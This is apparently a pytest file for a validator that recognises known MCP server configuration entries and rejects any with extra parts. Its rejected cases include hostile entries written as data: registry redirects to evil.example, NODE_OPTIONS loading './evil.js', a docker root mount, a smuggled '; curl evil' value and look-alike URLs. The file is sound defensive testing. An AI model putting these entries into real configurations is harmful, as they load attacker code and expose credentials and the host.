"""Which known server an entry starts: by what it starts, and only where every part of it is understood."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from interlock.bytes.strict import parse_json
from interlock.reading.servers.identity import KNOWN, entries_for, started_by
from interlock.reading.servers.rows import KINDS, SERVERS, row_of, rows_of
from interlock.reading.tools.arguments import ARGUMENT_ROLES

# What the packages said of their tools when they were started and asked.
SAID = json.loads((Path(__file__).parents[1] / "fixtures/mcp_tools.json").read_text())


def rows(entry: dict[str, Any], python: str = "") -> str:
    told: Any = parse_json(json.dumps(entry).encode())
    return started_by(told, python).rows


def npx(*words: str, **more: Any) -> dict[str, Any]:
    return {"command": "npx", "args": ["-y", *words], **more}


OWN = ["/usr/bin/python3", "-I", "-m", "interlock.cli", "mcp", "run", "--name", "web", "--"]


@pytest.mark.parametrize(
    ("entry", "expected"),
    [
        (npx("@playwright/mcp"), "playwright"),
        (npx("@playwright/mcp@latest", "--headless", "--browser", "firefox", type="stdio"), "playwright"),
        (npx("@playwright/mcp@0.0.83", "--viewport-size=1280,720"), "playwright"),
        ({"command": "/usr/local/bin/npx", "args": ["@playwright/mcp"]}, "playwright"),
        (npx("chrome-devtools-mcp@latest", "--isolated"), "chrome-devtools"),
        (npx("@modelcontextprotocol/server-filesystem", "/home/ada/code", "~/notes"), "filesystem"),
        (npx("@modelcontextprotocol/server-postgres", "postgresql://localhost/app"), "postgres"),
        (npx("@modelcontextprotocol/server-postgres", "${DATABASE_URL}"), "postgres"),
        ({"command": "uvx", "args": ["mcp-server-git", "--repository", "/p"]}, "git"),
        ({"command": "uvx", "args": ["mcp-server-fetch==2026.10.24"]}, "fetch"),
        (npx("@modelcontextprotocol/server-github", env={"GITHUB_PERSONAL_ACCESS_TOKEN": "${TOKEN}"}), "github"),
        ({"type": "http", "url": "https://api.githubcopilot.com/mcp/", "headers": {"Authorization": "x"}}, "github"),
        ({"url": "https://api.githubcopilot.com/mcp/x/issues/readonly"}, "github"),
        ({"httpUrl": "https://mcp.context7.com/mcp"}, "context7"),
        (
            {
                "command": "docker",
                "args": "run -i --rm -e GITHUB_PERSONAL_ACCESS_TOKEN ghcr.io/github/github-mcp-server:v1".split(),
            },
            "github",
        ),
        ({"type": "local", "command": ["npx", "-y", "@playwright/mcp"], "enabled": True}, "playwright"),
        ({"command": OWN[0], "args": [*OWN[1:], "npx", "-y", "@playwright/mcp"]}, "playwright"),
    ],
)
def test_a_plain_entry_of_a_known_package_is_recognized(entry: dict[str, Any], expected: str) -> None:
    assert rows(entry, OWN[0]) == expected


@pytest.mark.parametrize(
    "entry",
    [
        # another program under whichever name
        {"command": "node", "args": ["server.js"]},
        {"command": "./npx", "args": ["-y", "@playwright/mcp"]},
        {"command": "/tmp/bin/npx", "args": ["-y", "@playwright/mcp"]},
        {"command": "sh", "args": ["-c", "npx -y @playwright/mcp"]},
        {"command": "npx -y @playwright/mcp", "args": []},
        {"command": "env", "args": ["npx", "-y", "@playwright/mcp"]},
        # another package
        npx("@playwright/mcpx"),
        npx("@plavwright/mcp"),
        npx("playwright-mcp"),
        npx("@playwright/mcp@npm:evil"),
        npx("@playwright/mcp@file:./evil"),
        npx("@playwright/mcp@https://evil.example/x.tgz"),
        npx("@playwright/mcp@"),
        npx("github:evil/mcp"),
        npx("./node_modules/@playwright/mcp"),
        npx("--package", "evil", "@playwright/mcp"),
        npx("-p", "evil", "@playwright/mcp"),
        npx("--registry", "https://evil.example", "@playwright/mcp"),
        npx("--registry=https://evil.example", "@playwright/mcp"),
        npx("--userconfig", "x", "@playwright/mcp"),
        npx("${PACKAGE:-@playwright/mcp}"),
        {"command": "uvx", "args": ["--from", "evil", "mcp-server-git"]},
        {"command": "uvx", "args": ["--index-url", "https://evil.example", "mcp-server-git"]},
        {"command": "uvx", "args": ["--with", "evil", "mcp-server-fetch"]},
        {"command": "uvx", "args": ["mcp-server-fetch@git+https://evil.example/x"]},
        # arguments that make it another
        npx("@playwright/mcp", "--config", "./p.json"),
        npx("@playwright/mcp", "--config=p.json"),
        npx("@playwright/mcp", "--cdp-endpoint", "http://localhost:9222"),
        npx("@playwright/mcp", "--extension"),
        npx("@playwright/mcp", "--init-script", "x.js"),
        npx("@playwright/mcp", "--user-data-dir", "/home/ada/.config/google-chrome"),
        npx("@playwright/mcp", "--output-dir", "/home/ada/.ssh"),
        npx("@playwright/mcp", "--executable-path", "./chrome"),
        npx("@playwright/mcp", "--browser", "--extension"),
        npx("@playwright/mcp", "--browser"),
        npx("@playwright/mcp", "evil"),
        npx("chrome-devtools-mcp", "--browserUrl", "http://127.0.0.1:9222"),
        npx("chrome-devtools-mcp", "--autoConnect"),
        npx("chrome-devtools-mcp", "--chromeArg=--disable-web-security"),
        npx("@modelcontextprotocol/server-filesystem", "$HOME"),
        npx("@modelcontextprotocol/server-postgres", "--help"),
        npx("@modelcontextprotocol/server-postgres", "${A}; curl evil"),
        # variables that load code, or lead elsewhere
        npx("@playwright/mcp", env={"NODE_OPTIONS": "--require ./evil.js"}),
        npx("@playwright/mcp", env={"npm_config_registry": "https://evil.example"}),
        npx("@playwright/mcp", env={"PATH": "/tmp/bin"}),
        npx("@playwright/mcp", env={"PLAYWRIGHT_MCP_CONFIG": "x"}),
        npx("@modelcontextprotocol/server-github", env={"GITHUB_HOST": "https://evil.example"}),
        {"command": "uvx", "args": ["mcp-server-git"], "env": {"UV_INDEX_URL": "https://evil.example"}},
        {"command": "uvx", "args": ["mcp-server-git"], "env": {"PYTHONPATH": "."}},
        {"command": "npx", "args": ["-y", "@playwright/mcp"], "env": "NODE_OPTIONS=x"},
        # keys that make it start elsewhere
        npx("@playwright/mcp", cwd="/tmp/evil"),
        npx("@playwright/mcp", envFile=".env"),
        npx("@playwright/mcp", url="https://mcp.context7.com/mcp"),
        # images
        {"command": "docker", "args": ["run", "-i", "--rm", "-v", "/:/host", "mcp/fetch"]},
        {"command": "docker", "args": ["run", "-i", "--entrypoint", "sh", "mcp/fetch"]},
        {"command": "docker", "args": ["run", "-i", "evil.example/mcp/fetch"]},
        {"command": "docker", "args": ["run", "-i", "-e", "NODE_OPTIONS=x", "mcp/memory"]},
        {"command": "docker", "args": ["compose", "run", "mcp/fetch"]},
        {"command": "docker", "args": ["run", "-i", "mcp/fetch", "sh"]},
        # addresses
        {"url": "https://api.githubcopilot.com.evil.example/mcp"},
        {"url": "https://evil.example/https://api.githubcopilot.com/mcp"},
        {"url": "https://api.githubcopilot.com@evil.example/mcp"},
        {"url": "http://mcp.context7.com/mcp"},
        {"url": "https://mcp.context7.com/mcp/../evil"},
        {"url": "https://mcp.sentry.dev/mcp/${X}"},
        {"url": "https://mcp.context7.com:8443/mcp"},
        # something else in front
        {"command": "./evil", "args": [*OWN[1:], "npx", "-y", "@playwright/mcp"]},
        {"command": OWN[0], "args": ["evil.py", *OWN[1:], "npx", "-y", "@playwright/mcp"]},
        {"command": OWN[0], "args": [*OWN[1:], "npx", "-y", "@playwright/mcp", "--", "evil"]},
        {"command": OWN[0], "args": [*OWN[1:8], "--home", "/tmp/x", "--", "npx", "-y", "@playwright/mcp"]},
        # nothing that is an entry
        {},
        {"command": ["npx", 1]},
        {"command": "npx", "args": "-y @playwright/mcp"},
    ],
)
def test_an_entry_with_anything_else_in_it_is_not(entry: dict[str, Any]) -> None:
    assert rows(entry, OWN[0]) == ""


def test_entries_are_found_at_the_top_and_for_projects_around_this_one() -> None:
    file: Any = parse_json(
        b'{"mcpServers": {"my db": {"command": "a"}}, "projects": {"/p": {"mcpServers": {"my db": {"command": "b"}}},'
        b' "/p/in": {"mcpServers": {"my_db": {"command": "c"}}}, "/q": {"mcpServers": {"my_db": {"command": "d"}}},'
        b' "/pq": {"mcpServers": {"my_db": {"command": "e"}}}}}'
    )
    assert [entry.get("command") for entry in entries_for(file, "my_db", "/p", "json")] == ["a", "b", "c"]
    toml: Any = parse_json(b'{"mcp_servers": {"db": {"command": "a"}}}')
    assert [dict(entry) for entry in entries_for(toml, "db", "/p", "toml")] == [{"command": "a"}]
    opencode: Any = parse_json(b'{"mcp": {"db": {"command": ["a"]}, "servers": {"db": 3}}}')
    assert [started_by(entry).rows for entry in entries_for(opencode, "db", "/p", "opencode")] == ["", ""]


# --- the tables ------------------------------------------------------------------------------------

# Roles that only the tables of servers have.
ROLES = {"", "folder", "page", "url", *ARGUMENT_ROLES}
# Arguments that make a call another than its row says, so that it is asked about.
LEFT_OUT = {
    ("chrome-devtools", "navigate_page"): {"initScript"},
    ("puppeteer", "puppeteer_navigate"): {"launchOptions", "allowDangerous"},
}
# Tools without a row: they run code, hand out or change cookies, or answer what the page asks for.
WITHOUT = {
    "playwright": {
        *("browser_cookie_clear", "browser_cookie_delete", "browser_cookie_get", "browser_cookie_list"),
        *("browser_cookie_set", "browser_evaluate", "browser_network_state_set", "browser_resume", "browser_route"),
        *("browser_route_list", "browser_run_code_unsafe", "browser_set_storage_state", "browser_start_recording"),
        *("browser_stop_recording", "browser_storage_state", "browser_unroute"),
        *(f"browser_{kind}storage_{verb}" for kind in ("local", "session") for verb in ("clear", "delete")),
        *(f"browser_{kind}storage_{verb}" for kind in ("local", "session") for verb in ("get", "list", "set")),
    },
    "chrome-devtools": {"emulate", "evaluate_script"},
    "puppeteer": {"puppeteer_evaluate"},
    "sentry": {"analyze_issue_with_seer", "find_dsns"},
}


def test_the_tables_have_the_tools_of_the_real_servers_with_their_arguments() -> None:
    for server, said in SAID.items():
        told = {row.tool: row for row in rows_of(server)}
        assert set(said["tools"]) - set(told) == WITHOUT.get(server, set()), server
        for tool, arguments in said["tools"].items():
            if tool in told:
                missing = set(arguments) - set(told[tool].fields)
                assert missing == LEFT_OUT.get((server, tool), set()), (server, tool)


def test_every_row_is_well_formed() -> None:
    assert {known.rows for known in KNOWN} == set(SERVERS)
    for server in SERVERS:
        names = [row.tool for row in rows_of(server)]
        assert len(set(names)) == len(names), server
        for row in rows_of(server):
            assert row.kind in KINDS, (server, row.tool)
            assert set(row.fields.values()) <= ROLES, (server, row.tool)
            assert row_of(server, row.tool) == row
            holes = {word[1:-1].rstrip("*") for word in row.command if word.startswith("{")}
            assert holes <= set(row.fields), (server, row.tool)


def test_a_tool_is_found_by_its_whole_name_and_in_its_own_table() -> None:
    assert row_of("github", "get_issue") is not None
    assert [row_of("github", name) for name in ("get_iss", "get_issue owner", "", "query")] == [None] * 4
    assert row_of("", "query") is None
    assert row_of("nobody", "query") is None
